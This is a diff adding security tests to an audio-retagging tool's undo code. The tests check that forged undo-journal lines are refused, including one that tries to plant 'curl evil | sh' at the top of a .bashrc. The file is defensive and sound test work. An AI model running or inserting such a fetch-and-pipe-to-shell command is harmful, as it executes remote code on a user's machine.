@@ -1,5 +1,6 @@
 """The undo file: torn and damaged lines, other files, places outside, edits since."""
 
+import hashlib
 import json
 import os
 import stat
@@ -9,8 +10,9 @@ from needs import needs
 
 from audiorec.errors import DamagedFileError, InputError, MissingFileError, StoreError
 from audiorec.retagging import job
-from audiorec.retagging.change import prepare_copy
-from audiorec.retagging.undo import Undo, read_records
+from audiorec.retagging.change import FileState, prepare_copy
+from audiorec.retagging.delta import Delta
+from audiorec.retagging.undo import Record, Undo, read_records
 from audiorec.retagging.undo_job import undo
 from audiorec.runs.workers import Answer
 
@@ -101,6 +103,60 @@ def test_a_link_in_the_place_of_a_song(written, tmp_path):
     before = moved.read_bytes()
     assert states(undo(undo_file, [tmp_path / "music"], write=True)) == ["restored", "refused"]
     assert moved.read_bytes() == before
+
+
+def forged(path, old):
+    """Return the line of somebody who knows a file's content, and wants another."""
+    new, count = path.read_bytes(), len(old)
+    states = [FileState(len(b), hashlib.sha256(b).hexdigest(), 0) for b in (old, new)]
+    patches = tuple((at, old[at : at + 1]) for at in range(count) if old[at] != new[at : at + 1])
+    delta = Delta(count, len(new), min(count, len(new)), ((0, old),) if count < 4096 else patches)
+    about = {"song_id": "x", "path": str(path), "put": {"genre": ["jazz"]}}
+    return Record(**about, old=states[0], new=states[1], delta=delta).to_line()
+
+
+@pytest.mark.parametrize("is_written", [False, True])
+def test_a_forged_line_changes_no_other_file(tmp_path, is_written):
+    """Whoever knows a file below the folder could have put anything in its place."""
+    path = tmp_path / ".bashrc"
+    path.write_bytes(b"# as every user has it\n" * 20)
+    (tmp_path / "u.undo.jsonl").write_bytes(forged(path, b"curl evil | sh\n" + path.read_bytes()))
+    (song,) = undo(tmp_path / "u.undo.jsonl", [tmp_path], write=is_written).songs
+    assert (song.state, path.read_bytes()) == ("refused", b"# as every user has it\n" * 20)
+    assert "not a song" in song.reason or "not audio" in song.reason
+    assert sorted(p.name for p in tmp_path.iterdir()) == [".bashrc", "u.undo.jsonl"]
+
+
+def test_a_forged_line_changes_no_audio(song, tmp_path):
+    path = song("flac")
+    new = path.read_bytes()
+    old = bytearray(new)
+    old[-400] ^= 0x55
+    (tmp_path / "u.undo.jsonl").write_bytes(forged(path, bytes(old)))
+    (one,) = undo(tmp_path / "u.undo.jsonl", [tmp_path], write=True).songs
+    assert (one.state, one.reason) == (
+        "refused",
+        "its audio would change, not only its tags; left unchanged",
+    )
+    assert path.read_bytes() == new
+    (tmp_path / "u.undo.jsonl").write_bytes(forged(path, b"#!/bin/sh\n"))
+    (one,) = undo(tmp_path / "u.undo.jsonl", [tmp_path], write=True).songs
+    assert one.state == "refused"
+    assert path.read_bytes() == new
+    assert len(list(tmp_path.iterdir())) == 2
+
+
+def test_what_was_linked_or_closed_since_is_left_alone(written, tmp_path):
+    paths, _, undo_file = written
+    new = [path.read_bytes() for path in paths]
+    (tmp_path / "other").hardlink_to(paths[0])
+    paths[1].chmod(0o444)
+    result = undo(undo_file, [tmp_path], write=True)
+    assert [song.reason for song in result.songs] == [
+        "is read-only",
+        "has a second name (a hard link), which would keep the old tags",
+    ]
+    assert [path.read_bytes() for path in paths] == new
 
 
 @pytest.mark.parametrize("cut", [1, 20, 200])
